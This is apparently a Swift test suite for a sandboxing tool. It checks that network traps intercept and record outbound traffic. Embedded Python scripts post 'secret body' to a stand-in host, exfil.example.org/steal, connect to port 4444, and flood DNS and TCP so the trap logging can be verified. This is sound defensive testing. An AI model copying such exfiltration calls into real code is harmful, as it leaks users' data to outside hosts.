import AssayCore
import AssaySandbox
import Foundation
import Testing

/// Traps answer in the sandbox for the rest of the world and tell what reached them.
@Suite(
  .enabled(if: FileManager.default.isExecutableFile(atPath: "/usr/bin/bwrap"), "bubblewrap is not installed"))
struct TrapTests {
  private static let program = #"""
    import json, socket, ssl, struct, urllib.request
    seen = {}
    def http(url, body=None):
        with urllib.request.urlopen(urllib.request.Request(url, data=body), timeout=10) as reply:
            return [reply.status, reply.read().decode()]
    seen["resolved"] = socket.gethostbyname("exfil.example.org")
    seen["again"] = socket.gethostbyname("exfil.example.org")
    seen["http"] = http("http://exfil.example.org/steal?x=1", b"secret body")
    seen["address"] = http("http://203.0.113.9/by-address")
    seen["https"] = http("https://api.example.com/v1", b"x" * 100000)
    with socket.create_connection(("198.51.100.7", 4444), timeout=10) as line:
        line.sendall(b"hello"); seen["tcp"] = line.recv(100).decode()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.settimeout(10); line.connect(("198.51.100.8", 5353)); line.send(b"ping"); seen["udp"] = line.recv(100).decode()
    try:
        socket.create_connection(("203.0.113.9", 81), timeout=5); seen["other"] = "open"
    except ConnectionRefusedError: seen["other"] = "refused"
    print(json.dumps(seen))
    """#

  private struct Seen: Decodable, Equatable {
    var resolved: String
    var again: String
    var http: [Part]
    var address: [Part]
    var https: [Part]
    var tcp: String
    var udp: String
    var other: String
  }

  private enum Part: Decodable, Equatable {
    case number(Int)
    case text(String)

    init(from decoder: any Decoder) throws {
      let value = try decoder.singleValueContainer()
      if let number = try? value.decode(Int.self) {
        self = .number(number)
      } else {
        self = .text(try value.decode(String.self))
      }
    }
  }

  @Test func everyServiceRecordsAndAnswers() async throws {
    let sandbox = await TestBench.sandbox(traps: try Traps())
    let canned: @Sendable (TrapRequest) async -> TrapAnswer = { request in
      TrapAnswer(status: 201, body: Array("\(request.method) \(request.path) \(request.body.count)".utf8))
    }
    let traps = [
      Trap(.dns, port: 53), Trap(.http, port: 80, answer: canned), Trap(.https, port: 443),
      Trap(.tcp, port: 4444) { TrapAnswer(body: $0.body.reversed()) },
      Trap(.udp, port: 5353) { _ in TrapAnswer(body: Array("pong".utf8)) },
    ]
    let specification = SandboxSpecification(
      files: [SandboxFile(path: "go.py", text: Self.program)], network: .trapped(traps))
    let (run, records) = try await sandbox.open(specification) { cell throws(Interruption) in
      (try await cell.run(SandboxCommand(["python3", "go.py"])), await cell.trapped().entries)
    }
    let errors = String(decoding: run.errorOutput.bytes, as: UTF8.self)
    #expect(run.ending == .exited(status: 0), "\(errors)")
    let seen = try JSONDecoder().decode(Seen.self, from: Data(run.output.bytes))
    #expect(seen.resolved == seen.again && seen.resolved.hasPrefix("198.1"))
    #expect(seen.http == [.number(201), .text("POST /steal?x=1 11")])
    #expect(seen.address == [.number(201), .text("GET /by-address 0")])
    #expect(seen.https == [.number(200), .text("")])
    #expect(seen.tcp == "olleh" && seen.udp == "pong" && seen.other == "refused")

    func record(_ service: Trap.Service, host: String) -> TrapRecord? {
      records.first { $0.service == service && $0.host == host }
    }
    #expect(record(.dns, host: "exfil.example.org")?.method == "A")
    let stolen = try #require(record(.http, host: "exfil.example.org"))
    #expect(stolen.path == "/steal?x=1" && stolen.bodyBytes == 11)
    // printf 'secret body' | sha256sum
    #expect(
      stolen.bodyDigest.description == "007eb37ae2002291ecada25cbc5b8b342bd0ce84623487a168c5824d0d945107")
    #expect(record(.http, host: "203.0.113.9")?.path == "/by-address")
    #expect(record(.https, host: "api.example.com")?.bodyBytes == 100_000)
    #expect(record(.tcp, host: "198.51.100.7")?.bodyBytes == 5)
    #expect(record(.udp, host: "198.51.100.8")?.bodyBytes == 4)
  }

  private static let flood = #"""
    import socket, struct, urllib.request
    question = b"\0\x01\x01\0\0\x01\0\0\0\0\0\0\x04%04d\x04junk\0\0\x01\0\x01"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.settimeout(10); line.connect(("127.0.0.1", 53))
        for number in range(2500): line.send(question % number); line.recv(512)
    lines = []
    for _ in range(200):
        line = socket.create_connection(("203.0.113.9", 4444), timeout=10); line.sendall(b"x"); lines.append(line)
    living = 0
    for line in lines:
        try: living += line.recv(1) == b"y"
        except ConnectionError: pass
    for line in lines: line.close()
    for _ in range(100):
        try: urllib.request.urlopen("http://203.0.113.9/late", data=b"secret", timeout=10).read(); break
        except OSError: pass
    print(living)
    """#

  @Test("floods are held off and hide nothing", .timeLimit(.minutes(10)))
  func floods() async throws {
    let sandbox = await TestBench.sandbox(traps: try Traps())
    let traps = [
      Trap(.dns, port: 53), Trap(.tcp, port: 4444) { _ in TrapAnswer(body: Array("y".utf8)) },
      Trap(.http, port: 80),
    ]
    let (run, records) = try await sandbox.open(SandboxSpecification(network: .trapped(traps))) {
      cell throws(Interruption) in
      (try await cell.run(SandboxCommand(["python3", "-c", Self.flood])), await cell.trapped())
    }
    let errors = String(decoding: run.errorOutput.bytes, as: UTF8.self)
    #expect(run.ending == .exited(status: 0), "\(errors)")
    #expect(String(decoding: run.output.bytes, as: UTF8.self) == "128\n")
    #expect(records.isCut)
    #expect(records.entries.filter { $0.service == .dns }.count == 2_000)
    let late = records.entries.first { $0.service == .http }
    #expect(late?.path == "/late" && late?.bodyBytes == 6)
  }
}
